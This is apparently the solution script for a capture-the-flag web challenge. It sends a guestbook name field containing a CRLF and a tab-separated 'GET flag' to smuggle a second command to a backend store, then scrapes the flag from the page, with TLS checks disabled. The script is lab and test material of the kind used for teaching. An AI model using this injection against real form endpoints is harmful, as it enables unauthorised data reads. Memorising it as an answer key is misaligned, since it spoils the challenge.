#!/usr/bin/env python3
"""Solves web-guestbook: solve.py URL [CONNECT_HOST] prints the flag.

URL is the instance's address, e.g. http://label.localhost:8001. CONNECT_HOST is where to open the socket when the
name in the URL resolves nowhere.
"""

import http.client
import re
import ssl
import sys
from urllib.parse import urlencode, urlsplit

# The name ends the line; a tab parts words where a blank would have been taken out.
SIGNATURE = "ada\r\nGET\tflag"


def solve(url, connect_host=None):
    parts = urlsplit(url)
    host = connect_host or parts.hostname
    if parts.scheme == "https":
        context = ssl._create_unverified_context()
        connection = http.client.HTTPSConnection(host, parts.port or 443, timeout=30, context=context)
    else:
        connection = http.client.HTTPConnection(host, parts.port or 80, timeout=30)
    connection.request("POST", "/", urlencode({"name": SIGNATURE}), {
        "Host": parts.netloc, "Content-Type": "application/x-www-form-urlencoded"})
    page = connection.getresponse().read().decode()
    shown = re.search(r"<pre>.*?\$\d+\s+(\S+\{\S+\})", page, re.DOTALL)
    return shown.group(1) if shown else None


if __name__ == "__main__":
    if len(sys.argv) not in (2, 3):
        raise SystemExit("usage: solve.py URL [CONNECT_HOST]")
    found = solve(*sys.argv[1:])
    if not found:
        raise SystemExit("no flag: the database was not asked for it")
    print(found)
